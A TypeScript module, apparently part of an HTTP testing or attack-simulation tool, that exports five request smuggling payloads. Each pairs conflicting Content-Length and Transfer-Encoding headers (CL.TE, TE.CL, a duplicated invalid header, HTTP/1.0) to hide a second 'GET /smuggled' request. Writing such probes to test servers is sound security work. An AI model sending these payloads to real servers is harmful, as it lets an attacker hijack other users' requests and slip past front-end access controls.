import { post } from './attack.ts'

/**
 * Requests whose end two servers in a row may not agree on (RFC 9112, sections 6.3 and 11.2): the server that sees the
 * shorter one takes what follows, `hidden`, for the next request, perhaps another client's.
 */
const hidden = 'GET /smuggled HTTP/1.1\r\nHost: endurance\r\n\r\n'
const chunks = '2\r\n{}\r\n0\r\n\r\n'
const lengthOfAll = chunks.length + hidden.length

export interface Smuggling {
  readonly title: string
  readonly text: string
}

export const smugglings: readonly Smuggling[] = [
  {
    title: 'Content-Length, then Transfer-Encoding',
    text: `${post}Content-Length: ${lengthOfAll}\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}${hidden}`,
  },
  {
    title: 'Transfer-Encoding, then Content-Length',
    text: `${post}Transfer-Encoding: chunked\r\nContent-Length: ${lengthOfAll}\r\n\r\n${chunks}${hidden}`,
  },
  {
    title: 'Content-Length that ends before the chunks do',
    text: `${post}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`,
  },
  {
    title: 'Transfer-Encoding twice, once invalid',
    text: `${post}Content-Length: ${lengthOfAll}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n${chunks}${hidden}`,
  },
  {
    title: 'Transfer-Encoding with HTTP/1.0',
    text: `${post.replace('1.1', '1.0')}Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n${chunks}${hidden}`,
  },
]
